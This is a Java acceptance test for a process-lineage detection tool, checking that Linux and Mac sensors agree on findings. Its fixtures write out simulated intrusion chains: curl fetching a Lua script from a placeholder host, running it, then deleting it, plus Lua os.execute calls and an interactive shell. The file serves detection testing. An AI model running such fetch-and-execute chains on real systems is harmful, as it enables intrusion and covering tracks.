package perilune.checks.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import perilune.checks.CommandRun;
import perilune.checks.JsonDocument;

/** One story, told by two sensors: the same processes, and the same ones to blame. */
class MacAndLinuxAgreeTest {

  @TempDir Path folder;

  /** Somebody logs in, fetches a script, has Lua run it, and it covers its tracks. */
  private static TwoSensors droppedScript() {
    return new TwoSensors()
        .fork(1, 400)
        .exec(400, "/usr/sbin/sshd", "sshd", "-D")
        .fork(400, 405)
        .exec(405, "/usr/sbin/sshd", "sshd: mira [priv]")
        .fork(405, 410)
        .exec(410, "/bin/bash", "-bash")
        .fork(410, 420)
        .exec(420, "/usr/bin/curl", "curl", "-so", "/tmp/job.lua", "http://files.example/job.lua")
        .create(420, "/tmp/job.lua")
        .exit(420)
        .fork(410, 430)
        .exec(430, "/usr/local/bin/lua5.4", "lua5.4", "/tmp/job.lua")
        .fork(430, 440)
        .exec(440, "/bin/sh", "sh", "-c", "id")
        .exec(440, "/usr/bin/id", "id")
        .exit(440)
        .delete(430, "/tmp/job.lua")
        .exit(430);
  }

  /** A service starts a shell that gives Lua code, and that runs a program. */
  private static TwoSensors codeByService() {
    return new TwoSensors()
        .fork(1, 600)
        .exec(600, "/bin/sh", "/bin/sh", "/usr/local/libexec/nightly")
        .fork(600, 610)
        .exec(610, "/usr/local/bin/lua5.4", "lua5.4", "-e", "os.execute(\"whoami; id\")")
        .fork(610, 620)
        .exec(620, "/bin/sh", "sh", "-c", "whoami; id")
        .fork(620, 630)
        .exec(630, "/usr/bin/whoami", "whoami")
        .exit(630)
        .fork(620, 631)
        .exec(631, "/usr/bin/id", "id")
        .exit(631)
        .exit(620)
        .exec(610, "/bin/sh", "sh", "-i")
        .exit(610)
        .exit(600);
  }

  /** The same programs, but the script is where scripts belong and starts nothing. */
  private static TwoSensors nothingWrong() {
    return new TwoSensors()
        .fork(1, 600)
        .exec(600, "/bin/sh", "/bin/sh", "/usr/local/libexec/nightly")
        .fork(600, 610)
        .exec(610, "/usr/local/bin/lua5.4", "lua5.4", "/usr/local/share/report/report.lua")
        .create(610, "/var/log/report.txt")
        .exit(610)
        .exit(600);
  }

  @Test
  void onADroppedScript() throws IOException {
    assertThat(agree(droppedScript()))
        .anyMatch(finding ->
            finding.startsWith("Lua chain: a script from an unusual place ran a program 430 "))
        .allMatch(finding -> finding.contains(" 430 init > sshd > sshd > bash > "));
  }

  @Test
  void onCodeGivenByAService() throws IOException {
    assertThat(agree(codeByService()))
        .hasSizeGreaterThan(1)
        .anyMatch(finding ->
            finding.startsWith("Lua chain: code from the command line ran a program 610 "))
        .allMatch(finding -> finding.contains(" 610 init > sh > lua5.4"));
  }

  @Test
  void onAHarmlessRun() throws IOException {
    assertThat(agree(nothingWrong())).isEmpty();
  }

  private List<String> agree(TwoSensors story) throws IOException {
    Path audit = Files.writeString(folder.resolve("audit.log"), story.audit());
    Path endpoint = Files.writeString(folder.resolve("mac.jsonl"), story.endpoint());

    List<String> starts = starts(audit);
    assertThat(starts).hasSizeGreaterThan(1).isEqualTo(starts(endpoint));
    List<String> findings = findings(audit);
    assertThat(blamed(endpoint)).isEqualTo(blamed(audit));
    return findings;
  }

  /** Gives what is known of each program at its start. */
  private static List<String> starts(Path file) {
    CommandRun run = CommandRun.of("normalize", file.toString());
    assertThat(run.exitCode()).as(run.err()).isZero();
    return run.documents().stream()
        .filter(event -> event.texts("event.type").contains("start"))
        .map(MacAndLinuxAgreeTest::start)
        .toList();
  }

  private static String start(JsonDocument event) {
    return String.join(
        " | ",
        event.text("process.pid"),
        event.text("process.name"),
        event.texts("process.args").toString(),
        event.text("process.executable"),
        event.text("perilune.process.previous.name"),
        event.text("process.parent.pid"),
        event.text("process.parent.name"),
        event.texts("process.parent.args").toString(),
        event.texts("perilune.ancestor.name").toString(),
        event.text("perilune.lineage.state"),
        event.text("perilune.entry.type"),
        event.text("perilune.lua.invocation"),
        event.text("perilune.lua.script.location"),
        event.text("user.id"));
  }

  /** Gives the processes to blame: each platform has a pack, so the rules differ. */
  private static Set<Long> blamed(Path file) {
    CommandRun run = CommandRun.of("hunt", "--output", "ndjson", file.toString());
    assertThat(run.exitCode()).as(run.err()).isZero();
    return run.findings().stream()
        .map(finding -> finding.number("process.pid"))
        .collect(Collectors.toCollection(TreeSet::new));
  }

  /** Gives rule, culprit and chain of each finding. */
  private static List<String> findings(Path file) {
    CommandRun run = CommandRun.of("hunt", "--output", "ndjson", file.toString());
    assertThat(run.exitCode()).as(run.err()).isZero();
    return run.findings().stream()
        .map(finding ->
            finding.text("rule.name")
                + " "
                + finding.text("process.pid")
                + " "
                + String.join(
                    " > ", finding.list("lineage").stream().map(e -> e.text("name")).toList()))
        .sorted()
        .toList();
  }
}
